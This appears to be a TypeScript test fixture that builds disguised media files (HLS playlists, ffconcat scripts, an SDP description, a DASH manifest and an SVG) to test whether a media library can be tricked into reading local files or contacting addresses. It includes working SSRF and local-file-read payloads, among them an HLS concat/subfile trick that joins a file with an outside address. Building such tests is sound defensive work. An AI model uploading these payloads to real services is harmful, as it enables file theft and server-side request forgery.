// Scripts that make a media library open other files or addresses, to be uploaded under the name of
// a video. Each names a bait: a file that must never be opened or an address that must never be
// contacted.

/** Targets of the scripts. */
export type Bait = { readonly file: string; readonly address: string };

/** Name of the script -> its text. */
export const disguisedScripts = {
  'an HLS playlist with a file as its segment': ({ file }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nfile:${file}\n#EXT-X-ENDLIST\n`,
  'an HLS playlist with an address as its segment': ({ address }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n${address}/segment.ts\n#EXT-X-ENDLIST\n`,
  'an HLS playlist that joins an address and a file': ({ file, address }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nconcat:${address}/?|subfile,,start,0,end,64,,:${file}\n#EXT-X-ENDLIST\n`,
  'an ffconcat script': ({ file }) => `ffconcat version 1.0\nfile '${file}'\n`,
  'an ffconcat script with a relative name': () => "ffconcat version 1.0\nfile 'bait.mp4'\n",
  'an SDP description': ({ address }) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 ${new URL(address).hostname}\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  'a DASH manifest': ({ address }) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1"><BaseURL>${address}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  'an SVG image': ({ address }) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><image href="${address}/x.png"/></svg>`,
} as const satisfies Record<string, (bait: Bait) => string>;
